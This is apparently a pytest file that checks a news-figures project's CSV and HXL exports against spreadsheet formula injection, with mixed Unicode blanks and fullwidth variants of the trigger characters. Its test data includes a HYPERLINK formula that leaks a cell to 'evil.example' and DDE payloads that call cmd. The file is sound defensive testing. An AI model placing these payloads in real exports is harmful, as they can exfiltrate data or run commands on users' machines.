"""CSV and HXL exports never hand a spreadsheet a formula (OWASP "CSV injection").

The payloads are the ones OWASP and the usual CSV-injection lists use, hidden behind the
blanks a spreadsheet skips (spaces of every kind, line breaks, format characters) or written
in fullwidth forms that NFKC folds to `=`, `+`, `-`, `@`. JSON Lines and GeoJSON are data
formats, not spreadsheets: they keep the raw text.
"""
from __future__ import annotations

import csv
import io
import json
import sys
from pathlib import Path

import numpy as np
import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent / "fixtures"))

from fake_figures import fake_extractor  # noqa: E402,F401  (pytest fixture)

from newsfigures.io import export  # noqa: E402
from newsfigures.store import database as store  # noqa: E402
from newsfigures.store import frames  # noqa: E402
from newsfigures.store.ingest import ingest_text  # noqa: E402

# (id, text) a spreadsheet would run: each is exported with a leading apostrophe.
FORMULAS = [
    ("equals", "=1+1"),
    ("space-equals", " =1+1"),
    ("tab-equals", "\t=1+1"),
    ("crlf-equals", "\r\n=1+1"),
    ("lf-equals", "\n=1+1"),
    ("nbsp-hyperlink", '\u00a0=HYPERLINK("http://evil.example/?leak="&A1,"Details")'),
    ("figure-space-equals", "\u2007=1+1"),
    ("narrow-nbsp-equals", "\u202f=1+1"),
    ("ideographic-space-equals", "\u3000=1"),
    ("bom-equals", "\ufeff=1+1"),
    ("zero-width-space-equals", "\u200b=1+1"),
    ("mixed-blanks-fullwidth-equals", "\u200b\u00a0 \u3000\ufeff\uff1d1+1"),
    ("fullwidth-equals", "\uff1d1+1"),
    ("fullwidth-plus", "\uff0b1"),
    ("fullwidth-minus", "\uff0d1"),
    ("fullwidth-at", "\uff20SUM(A1)"),
    ("small-equals", "\ufe661+1"),
    ("superscript-plus", "\u207a1"),
    ("equals-before-combining-mark", "=\u0338 1"),  # NFC would make it "≠": check raw first
    ("plus", "+33 1 23 45 67"),
    ("minus-dde", "-2+3+cmd|' /C calc'!A0"),
    ("at", "@cmd"),
    ("at-sum", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("numeric-looking-text", "-5"),  # a text cell is text, even when it reads as a number
    ("tab-alone", "\tUNHCR"),  # OWASP lists a leading tab itself
    ("cr-alone", "\rUNHCR"),  # ... and a leading carriage return
]

# (id, text) that is plain text: exported exactly as it is.
SAFE_TEXTS = [
    ("agency", "UNHCR"),
    ("place-with-hyphen", "Bab al-Salama"),
    ("inner-hyphen", "a-b"),
    ("sum-in-words", "1+1 is 2"),
    ("sentence", "Thousands fled to Kilis, the UNHCR said."),
    ("leading-spaces-then-text", "  \u00a0Kilis"),
    ("hxl-looking", "#affected"),
    ("already-quoted", "'=1+1"),
    ("non-ascii", "Göç İdaresi"),
    ("blank", " \u3000 "),
    ("empty", ""),
]

# Numbers are never changed, whatever their sign (their type is kept too).
NUMBERS = [
    ("negative-int", -5),
    ("negative-float", -36.2),
    ("zero", 0),
    ("numpy-int", np.int64(-7)),
    ("numpy-float", np.float64(-0.5)),
    ("bool", True),
    ("none", None),
]


def ids(table):
    return [name for name, _ in table]


def parse_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("text", [t for _, t in FORMULAS], ids=ids(FORMULAS))
def test_formula_text_gets_a_leading_apostrophe(text):
    assert export.safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", [t for _, t in SAFE_TEXTS], ids=ids(SAFE_TEXTS))
def test_plain_text_is_left_alone(text):
    assert export.safe_cell(text) == text


@pytest.mark.parametrize("number", [n for _, n in NUMBERS], ids=ids(NUMBERS))
def test_numbers_are_left_alone(number):
    out = export.safe_cell(number)
    assert out is number


# -- end to end: real stored figures whose text columns carry the payloads ------------------

PAYLOADS = FORMULAS + SAFE_TEXTS[:-2]  # every case that can be an article title


@pytest.fixture
def hostile_frame(store_at, fake_extractor):
    """One stored article per payload, the payload as its title (kept as given) and as the
    start of the line the figure's quote comes from (the quote is stripped of whitespace,
    not of format characters)."""
    conn = store.connect(store_at)  # SQLite and PostgreSQL (tests/conftest.py)
    for n, (_, payload) in enumerate(PAYLOADS):
        ingest_text(conn, f"{payload} 5,000 refugees arrived in Kilis overnight.",
                    article_id=f"p{n:02d}", title=payload, publisher="Example Wire",
                    published="2016-02-06")
    df = frames.figures_frame(conn)
    conn.close()
    # Kilis is at 37.12 E; a negative longitude shows that numeric cells keep their sign.
    return df.assign(lon=-df["lon"])


def _csv_records(data: bytes, skip: int) -> tuple[list[str], list[dict[str, str]]]:
    rows = parse_csv(data)
    header = rows[0]
    return header, [dict(zip(header, row)) for row in rows[1 + skip:]]


@pytest.mark.parametrize("fmt, skip", [("csv", 0), ("hxl", 1)], ids=["csv", "hxl"])
def test_export_neutralises_every_payload_and_keeps_numbers(hostile_frame, fmt, skip):
    header, records = _csv_records(export.export_bytes(hostile_frame, fmt), skip)
    assert len(records) == len(PAYLOADS)
    titles = {r["article"]: r["article_title"] for r in records}
    for n, (name, payload) in enumerate(PAYLOADS):
        expected = "'" + payload if (name, payload) in FORMULAS else payload
        assert titles[f"p{n:02d}"] == expected, name
    for r in records:  # the quotes start with the payload too (minus its whitespace)
        assert not export.starts_formula(r["quote"]) or r["quote"].startswith("'")
        assert (r["value"], r["lat"], r["lon"]) == ("5000", "36.7184", "-37.1212")


def test_no_cell_of_the_csv_reads_as_a_formula(hostile_frame):
    _, records = _csv_records(export.to_csv(hostile_frame), 0)
    numeric = {"value", "low", "high", "lat", "lon", "start", "end"}
    for r in records:
        for column, cell in r.items():
            if column not in numeric:
                assert not export.starts_formula(cell) or cell.startswith("'"), (column, cell)


def test_hxl_header_and_tag_row_are_not_mangled(hostile_frame):
    rows = parse_csv(export.to_hxl(hostile_frame))
    columns = [c for c in hostile_frame.columns if not c.startswith("_")]
    assert rows[0] == columns
    assert rows[1] == [export.HXL_TAGS.get(c, "") for c in columns]
    assert rows[1][columns.index("value")] == "#affected"


def test_jsonl_and_geojson_keep_the_raw_text(hostile_frame):
    jsonl = [json.loads(line) for line in export.to_jsonl(hostile_frame).splitlines()]
    assert [r["article_title"] for r in jsonl] == [p for _, p in PAYLOADS]
    geo = json.loads(export.to_geojson(hostile_frame))
    titles = [f["properties"]["article_title"] for f in geo["features"]]
    assert titles == [p for _, p in PAYLOADS]
    assert geo["features"][0]["geometry"]["coordinates"] == [-37.1212, 36.7184]
